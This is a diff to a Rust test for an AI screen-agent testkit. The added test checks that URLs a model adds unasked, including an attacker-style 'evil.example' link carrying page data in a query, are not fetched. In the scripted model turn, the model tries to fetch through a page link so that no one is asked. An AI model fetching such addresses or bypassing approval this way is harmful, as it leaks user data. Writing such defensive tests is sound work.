@@ -3,7 +3,9 @@
 use screen_agent_testkit::search::Hit;
 use serde_json::json;
 
-use super::world::{Without, World, going_on, of_kind, paragraph, request, words};
+use super::world::{
+    Without, World, capture, going_on, of_kind, paragraph, request, with_documents, words,
+};
 
 const ARTICLE: &str = "<html><head><title>Prices</title></head><body><article><h1>Prices of tea</h1>\
     <p>The green tea of this shop costs 12.40 euros for a hundred grams, as it has for two years now.</p>\
@@ -92,6 +94,45 @@ async fn search_capture_calculate_and_an_answer_with_citations() {
         .map(|one| one["packetType"].clone())
         .collect();
     assert!(kinds.contains(&json!("tool")), "{kinds:?}");
+    world.done();
+}
+
+/// Nothing is fetched here: the web has no page at all, and says so if it is asked.
+#[tokio::test]
+async fn what_a_model_added_unasked_is_not_fetched_unasked() {
+    let world = World::new().await;
+    let collection = world.collection(&[]).await;
+    let told = "https://evil.example/?ref=what-the-page-said";
+    world.proposes(
+        "collection.add_sources",
+        json!({ "collectionId": collection, "sources": [{ "type": "url", "url": told }] }),
+    );
+    let into = collection.clone();
+    world.says(move |request| {
+        let results = of_kind(request, "tool.result.v1");
+        let source = results.last().unwrap()["content"]["result"]["sources"][0]["sourceId"].clone();
+        json!({ "children": [paragraph("I fetch it.")], "tool_calls": [
+            { "name": "source.refresh", "arguments": { "sourceId": source } },
+            // The page links to this one, so that nobody is asked; added was the other.
+            { "name": "source.capture",
+              "arguments": { "collectionId": into, "url": "https://evil.example/" } } ] })
+    });
+    world.says(|request| {
+        let results = of_kind(request, "tool.result.v1");
+        let codes: Vec<_> = results
+            .iter()
+            .filter_map(|one| one["content"]["error"]["code"].as_str())
+            .collect();
+        assert_eq!(codes, ["NOT_CAPTURED", "OTHER_ADDRESS"]);
+        json!({ "children": [paragraph("It cannot be had.")] })
+    });
+    let page = "<p>A page that leads to <a data-llm-id=\"a1\" href=\"https://evil.example/\">another</a>.</p>";
+    let asked = with_documents(
+        request("r-1", "collect the sources of this page"),
+        vec![capture("doc:tab", "https://tea.example/", page)],
+    );
+    let reply = world.asked(&asked).await;
+    assert_eq!(words(&reply), "It cannot be had.\n", "{reply}");
     world.done();
 }
 
